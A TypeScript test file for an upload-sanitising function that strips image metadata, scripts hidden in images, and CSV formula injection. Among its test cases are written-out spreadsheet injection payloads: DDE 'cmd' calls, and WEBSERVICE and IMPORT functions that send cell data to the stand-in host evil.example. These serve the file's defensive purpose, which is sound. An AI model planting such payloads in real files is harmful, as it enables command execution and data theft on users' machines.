import sharp from 'sharp'
import { expect, test } from 'vitest'
import { chunk, docx, hostileFiles, noise, pdf, zip } from '#tests/support/hostile-files.ts'
import { acceptMedia } from './accept-media.ts'

const mark = 'CANARY-7431'

test.each(await hostileFiles())(
  '$what is refused as $refusal',
  { tags: ['full'] },
  async ({ name, bytes, refusal }) => {
    expect(await acceptMedia(name, bytes)).toEqual({ ok: false, problem: refusal })
  },
)

test.each([1, 2, 3, 4, 5, 6, 7, 8])(
  'a photo taken with the camera as orientation %i says is served upright and says nothing of its making',
  async (orientation) => {
    const bytes = await sharp(await corner())
      .withExif({ IFD0: { Artist: mark }, IFD3: { GPSLatitudeRef: 'S', GPSMapDatum: mark } })
      .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/"><a>${mark}</a></x:xmpmeta>`)
      .withIccProfile('p3')
      .withMetadata({ orientation })
      .jpeg({ quality: 95 })
      .toBuffer()
    expect(bytes.includes(mark)).toBe(true)
    const { width, height, redrawn } = await accepted('foto.jpg', bytes)
    const turned = orientation > 4
    expect([width, height]).toEqual(turned ? [40, 80] : [80, 40])
    expect(Buffer.from(redrawn ?? []).includes(mark)).toBe(false)
    const seen = await sharp(redrawn ?? undefined).metadata()
    expect([seen.exif, seen.xmp, seen.iptc, seen.icc, seen.orientation]).toEqual(Array(5).fill(undefined))
    const upright = await sharp(bytes).autoOrient().raw().toBuffer()
    const served = await sharp(redrawn ?? undefined)
      .raw()
      .toBuffer()
    expect(isBright(served, [width, height])).toEqual(isBright(upright, [width, height]))
  },
)

test('the texts of a PNG are gone, and so is what hangs behind a picture', async () => {
  const sent = await noise(20).png().toBuffer()
  const text = chunk('tEXt', Buffer.from(`Author\0${mark}`, 'latin1'))
  const withText = Buffer.concat([sent.subarray(0, 33), text, sent.subarray(33), Buffer.from('<script>')])
  const { redrawn, type } = await accepted('a.png', withText)
  expect(type).toBe('image/png')
  expect(Buffer.from(redrawn ?? []).includes(mark)).toBe(false)
  expect(Buffer.from(redrawn ?? []).includes('<script>')).toBe(false)
})

test('a picture that is also a script is only a picture afterwards', async () => {
  const gif = Buffer.concat([await noise(10).gif().toBuffer(), Buffer.from('*/=1;alert(1)')])
  const { type, redrawn } = await accepted('a.gif', gif)
  expect(type).toBe('image/png')
  expect(Buffer.from(redrawn ?? []).includes('alert')).toBe(false)
})

test.each(['avif', 'tiff', 'webp'] as const)('a %s is served as what every browser shows', async (format) => {
  const bytes = await noise(30, 20).toFormat(format).toBuffer()
  const { type, width, height } = await accepted(`a.${format}`, bytes)
  expect([type, width, height]).toEqual([format === 'tiff' ? 'image/jpeg' : 'image/webp', 30, 20])
})

test('a drawing becomes a picture without ground, and nothing of what was sent is served', async () => {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 20"><title>${mark}</title><rect width="20" height="20" fill="#c00"/></svg>`
  const { type, width, height, redrawn } = await accepted('marca.svg', Buffer.from(svg))
  expect([type, width, height]).toEqual(['image/png', 2400, 1200])
  expect(Buffer.from(redrawn ?? []).includes(mark)).toBe(false)
  const seen = await sharp(redrawn ?? undefined)
    .raw()
    .toBuffer()
  const pixel = (x: number) => [...seen.subarray((600 * 2400 + x) * 4, (600 * 2400 + x) * 4 + 4)]
  expect(pixel(600)).toEqual([204, 0, 0, 255])
  expect(pixel(1800)[3]).toBe(0)
})

test('what a file is called does not matter: a PNG that says to be a PDF is a picture', async () => {
  expect((await accepted('a.pdf', await noise(10).png().toBuffer())).type).toBe('image/png')
})

test('a PDF and an office document are kept as they are, with the number of their pages', async () => {
  expect(await accepted('a.pdf', pdf(''))).toMatchObject({ type: 'application/pdf', pages: 1, redrawn: null })
  const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
  expect(await accepted('a.docx', docx({}))).toMatchObject({
    ...{ type: word, pages: 3, redrawn: null },
  })
  const text = 'application/vnd.oasis.opendocument.text'
  const odt = zip({ mimetype: text, 'content.xml': '<a/>', 'meta.xml': '<m meta:page-count="7"/>' })
  expect(await accepted('a.odt', odt)).toMatchObject({ type: text, pages: 7 })
})

test('a plain text is a text or a table, as its name says, and nothing else is', async () => {
  expect((await accepted('Nota.TXT', Buffer.from('Ñandú'))).type).toBe('text/plain')
  expect((await accepted('a.csv', Buffer.from('a;b\n1;2'))).type).toBe('text/csv')
  for (const cell of ["=cmd|'/c calc'!A0", '"+cmd|x!A1"', '=WEBSERVICE(""http://a.example"")', '@DDE(a)'])
    expect(await acceptMedia('a.csv', Buffer.from(`a;b\n1;${cell}`))).toMatchObject({ problem: 'active' })
  for (const cell of ['=SUM(A1:A2)', '-5', '+598 99 123', '- véase https://a.example', '@ana | beto'])
    expect((await accepted('a.csv', Buffer.from(`a;b\n1;${cell}`))).type).toBe('text/csv')
  for (const bytes of [Buffer.from('Ñandú', 'latin1'), Buffer.from('\uFEFFÑandú', 'utf16le')])
    expect(Buffer.from((await accepted('a.txt', bytes)).redrawn ?? []).toString()).toBe('Ñandú')
  expect((await accepted('a.txt', Buffer.from('\uFEFFÑandú'))).redrawn).toBe(null)
  expect(await acceptMedia('a.txt', Buffer.from([0x61, 0, 0x62]))).toMatchObject({ problem: 'type' })
  expect(await acceptMedia('a.txt', Buffer.from([0xff, 0xfe, 0xfd]))).toMatchObject({ problem: 'type' })
})

test.each([
  `a,b\n"=IF(TRUE,cmd|'/c calc'!A0,0)",1`,
  'a,b\n"=IF(TRUE,WEBSERVICE(""http://evil.example/""&A1),0)",1',
  `a;b\n"=IF(TRUE;\ncmd|'/c calc'!A0;0)";1`,
  '"=SI(VERDADERO;SERVICIOWEB(""http://evil.example/""&A1);0)"',
  ...['IMPORTXML', 'IMPORTDATA', 'IMPORTHTML', 'IMPORTFEED', 'IMPORTRANGE', 'COMPLEMENTO'].map(
    (name) => `=${name}("http://evil.example/")`,
  ),
  `="a"&'\\\\servidor\\[a.xlsx]b'!A1`,
  `='file://servidor/a.ods'#$a.A1`,
  `＝cmd|'/c calc'!A0`,
  `-1+cmd|'/c calc'!A0`,
  `a "b,=cmd|'/c calc'!A0,"`,
  `"a" "b,=cmd|'/c calc'!A0,"c"`,
  `sep=x\n1x=cmd|'/c calc'!A0`,
  '=HYPERLINK("file://servidor/a.exe","a")',
  '-WEBSERVICE ("http://evil.example/")',
])('the table %j is refused: in a spreadsheet it asks a program, a file or the web', async (table) => {
  expect(await acceptMedia('a.csv', Buffer.from(table))).toMatchObject({ problem: 'active' })
})

test.each([
  'a,b\n"=SUM(A1,B1)",1',
  'a;b\n"=SI(A1=""a, b"";""cmd|x(y)!"";SUMA(A1:A2))";2',
  'nombre;nota\n"Pérez, Ana";- Auditoría (interna), 3 hora(s)\nLuis;"-5"\nEva;+598 99 (123)',
  'caño,5" de diámetro\n-5,"Auditor(a) de gestión; calidad"',
  'a|-5|b\n|- x|c!',
])('the table %j is taken', async (table) => {
  expect((await accepted('a.csv', Buffer.from(table))).type).toBe('text/csv')
})

test('a file of a few bytes is refused in words, whatever it begins like', {
  tags: ['full'],
  timeout: 120_000,
}, async () => {
  const begins = {
    ...{
      'a.pdf': '%PDF-1.7\n1 0 obj',
      'a.docx': 'PK\x03\x04\x14\0\0\0\b\0\0\0\0\0\0\0',
      'a.zip': 'PK\x05\x06',
    },
    ...{ 'a.jpg': '\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01', 'a.png': '\x89PNG\r\n\x1a\n\0\0\0\rIHDR' },
    ...{ 'a.gif': 'GIF89a\x01\0\x01\0\x80\0\0\0\0\0', 'a.webp': 'RIFF\x08\0\0\0WEBPVP8 ' },
    ...{ 'a.avif': '\0\0\0\x10ftypavif\0\0\0\0', 'a.heic': '\0\0\0\x10ftypheic\0\0\0\0' },
    ...{ 'a.tif': 'II*\0\x08\0\0\0\0\0\0\0\0\0\0\0', 'b.tif': 'MM\0*\0\0\0\x08\0\0\0\0\0\0\0\0' },
    ...{ 'a.svg': '<svg xmlns="a"/>', 'b.svg': '\xff\xfe<\0s\0v\0g\0/\0>\0', 'a.exe': 'MZ'.padEnd(16, '\0') },
    ...{ 'a.gz': '\x1f\x8b\b\0\0\0\0\0\0\x03', nothing: '\0'.repeat(16) },
  }
  for (const [name, begin] of Object.entries(begins))
    for (let size = 0; size <= 16; size += 1) {
      // A part of a larger memory, and one that is all there is.
      const bytes = Uint8Array.from(Buffer.from(begin.padEnd(16, '\0').slice(0, size), 'latin1'))
      const within = new Uint8Array(64).fill(65).subarray(64 - size)
      within.set(bytes)
      for (const given of [bytes, within]) {
        const outcome = await acceptMedia(name, given)
        expect(outcome, `${name}, ${size} bytes`).toMatchObject({ ok: false })
        if (size === 0) expect(outcome).toMatchObject({ problem: 'empty' })
      }
    }
  for (const text of ['a', 'ab', 'abc', 'abcd'])
    expect((await accepted('a.txt', Buffer.from(text))).type).toBe('text/plain')
})

async function accepted(name: string, bytes: Uint8Array) {
  const outcome = await acceptMedia(name, bytes)
  if (!outcome.ok) throw new Error(outcome.problem)
  return outcome.value
}

/** Dark, with one bright corner that says which way is up. */
function corner(): Promise<Buffer> {
  const bright = { create: { width: 20, height: 10, channels: 3 as const, background: '#fff' } }
  return sharp({ create: { width: 80, height: 40, channels: 3, background: '#000' } })
    .composite([{ input: bright, left: 0, top: 0 }])
    .png()
    .toBuffer()
}

/** Which of the four corners of raw pixels are bright. */
function isBright(pixels: Buffer, [width, height]: (number | null)[]): boolean[] {
  const [w, h] = [width ?? 0, height ?? 0]
  return [
    [2, 2],
    [w - 3, 2],
    [2, h - 3],
    [w - 3, h - 3],
  ].map(([x = 0, y = 0]) => (pixels[(y * w + x) * 3] ?? 0) > 128)
}
